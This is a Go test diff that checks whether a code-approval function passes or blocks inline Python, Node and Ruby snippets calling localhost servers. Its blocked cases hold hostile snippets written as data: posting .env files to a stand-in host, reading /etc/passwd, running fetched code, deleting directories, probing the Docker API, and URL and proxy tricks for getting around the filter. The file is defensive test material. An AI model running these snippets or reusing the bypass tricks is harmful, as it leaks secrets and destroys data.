@@ -62,3 +62,53 @@ func TestInlineCodeInPieces(t *testing.T) {
 		}
 	}
 }
+
+// TestInlineCodeAsksThisMachine holds that inline code which asks a server of this machine is judged
+// as curl that does, and that it asks nobody else.
+func TestInlineCodeAsksThisMachine(t *testing.T) {
+	for _, c := range []struct {
+		lang         string
+		passes, asks []string
+	}{
+		{"python", []string{
+			`import urllib.request; print(urllib.request.urlopen("http://localhost:8000/health", timeout=5).read().decode())`, `from urllib.request import urlopen; print(urlopen("http://127.0.0.1:8000/").status)`,
+			`import urllib.request, json; r = urllib.request.Request("http://localhost:8000/users", data=json.dumps({"a": 1}).encode(), headers={"Content-Type": "application/json"}, method="POST"); print(json.load(urllib.request.urlopen(r)))`,
+			`import requests; print(requests.get("http://127.0.0.1:8000/api").json())`, `import requests; r = requests.post("http://[::1]:8000/api", json={"a": 1}, timeout=3); print(r.status_code, r.text)`, `import httpx; print(httpx.get("http://localhost:8000/").text)`,
+			"import requests\nbase = 'http://localhost:8000'\nfor p in ['/a', '/b']:\n  r = requests.get(base + p)\n  print(p, r.status_code)", "import requests\ntry:\n  requests.get('http://localhost:8000/x')\nexcept requests.exceptions.ConnectionError as e:\n  print(e)",
+		}, []string{
+			`import urllib.request; print(urllib.request.urlopen("http://h.example/").read())`, `import urllib.request, sys; urllib.request.urlopen("http://localhost" + sys.argv[1])`, `import urllib.request; urllib.request.urlopen("http://localhost@h.example/")`,
+			`import urllib.request; urllib.request.urlopen("http://localhost:80@h.example/")`, `import urllib.request; urllib.request.urlopen("http://localhost.h.example/")`, `import urllib.request; urllib.request.urlopen("file:///etc/passwd")`,
+			`import urllib.request; exec(urllib.request.urlopen("http://localhost:8000/").read())`, `import urllib.request; urllib.request.urlretrieve("http://localhost:8000/", "/etc/x")`,
+			"import urllib.request\nfull_url = 1\nr = urllib.request.Request('http://localhost:8000/')\nr.full_url = 'http://h.example'\nurllib.request.urlopen(r)", "import urllib.request\nr = urllib.request.Request('http://localhost:8000/')\nr.set_proxy('h.example:80', 'http')\nurllib.request.urlopen(r)",
+			`import os, urllib.request; os.environ["http_proxy"] = "http://h.example"; urllib.request.urlopen("http://localhost:8000/")`, `import requests; requests.get("http://localhost:8000/", proxies={"http": "http://h.example"})`, `import requests; requests.Session().post("http://h.example/")`,
+			`import requests; requests.get("http://localhost:8000"); requests.post("http://h.example", data=open("a.txt").read())`, `import requests; requests.get("http://localhost:8000"); f = requests.post; f("http://h.example")`, `from requests import get, Session; get("http://localhost:8000"); Session().get("http://h.example")`,
+			`import requests as r; r.get("http://localhost:8000"); s = r; s.Session().get("http://h.example")`, `import requests; requests.get("http://localhost:2375/containers/json")`, `import requests; requests.post("http://localhost:8000/", data=open(".env").read())`, `import requests; requests.post("http://localhost:9200/_x", json={})`,
+			`import requests, subprocess; open("x.sh", "w").write(requests.get("http://localhost:8000/").text); subprocess.run(["sh", "x.sh"])`, `import requests, shutil; requests.get("http://localhost:8000/"); shutil.rmtree("/a")`,
+		}},
+		{"node", []string{
+			`fetch("http://localhost:3000/").then(r => r.text()).then(console.log)`, `fetch("http://localhost:3000/api", {method: "POST", headers: {"Content-Type": "application/json"}, body: JSON.stringify({a: 1})}).then(async r => console.log(r.status, await r.json()))`,
+			`(async () => { for (const p of ["a", "b"]) { const r = await fetch("http://localhost:3000/" + p); console.log(p, r.status) } })()`, "(async () => { for (const p of [\"a\", \"b\"]) console.log((await fetch(`http://127.0.0.1:3000/${p}`)).status) })()",
+		}, []string{
+			`fetch("http://h.example/").then(r => r.text())`, `fetch("http://localhost" + process.argv[1])`, `fetch("http://localhost:3000" + process.argv[1])`, "fetch(`http://localhost:${process.argv[1]}/`)", `fetch("http://localhost:3000/").then(r => r.text()).then(eval)`,
+			`fetch("http://localhost:3000/", {dispatcher: x})`, `fetch("http://localhost:3000/", o)`, `fetch("http://localhost:3000/", {...o})`, `fetch("http://localhost:3000/", {method: "POST", body: require("fs").readFileSync(".env")})`, `const f = fetch; f("http://localhost:3000/")`,
+			`["http://h.example"].map(fetch); fetch("http://localhost:3000/")`, `fetch("http://localhost:2375/containers/json")`, `fetch("http://localhost:3000/").then(r => r.text()).then(t => require("fs").writeFileSync("/etc/x", t))`, `fetch("http://localhost:9200/_x", {method: "DELETE"})`,
+		}},
+		{"ruby", []string{
+			`require "net/http"; r = Net::HTTP.get_response(URI("http://localhost:3000/up")); puts r.code, r.body`, `require "net/http"; require "json"; puts JSON.parse(Net::HTTP.get(URI.parse("http://127.0.0.1:3000/"))).keys`, `require "open-uri"; puts URI.open("http://localhost:3000/").read`,
+		}, []string{
+			`require "net/http"; puts Net::HTTP.get(URI("http://h.example/"))`, `require "net/http"; puts Net::HTTP.get(URI(ARGV[0]))`, `require "net/http"; Net::HTTP.start("h.example"); Net::HTTP.get(URI("http://localhost/"))`, `require "open-uri"; eval URI.open("http://localhost:3000/").read`,
+			`require "open-uri"; puts URI.open("http://localhost:3000/").read; open("|rm x")`, `require "net/http"; Net::HTTP.get(URI("http://localhost:2375/containers/json"))`, `require "net/http"; Net::HTTP.get(URI("http://localhost#{ARGV[0]}/"))`,
+		}},
+	} {
+		for _, code := range c.passes {
+			if d := decideCode(c.lang, code); d.Disposition != Approved {
+				t.Errorf("%s asks: %s: %s", c.lang, code, d.Reasons[0].Message)
+			}
+		}
+		for _, code := range c.asks {
+			if d := decideCode(c.lang, code); d.Disposition == Approved {
+				t.Errorf("%s passes: %s", c.lang, code)
+			}
+		}
+	}
+}
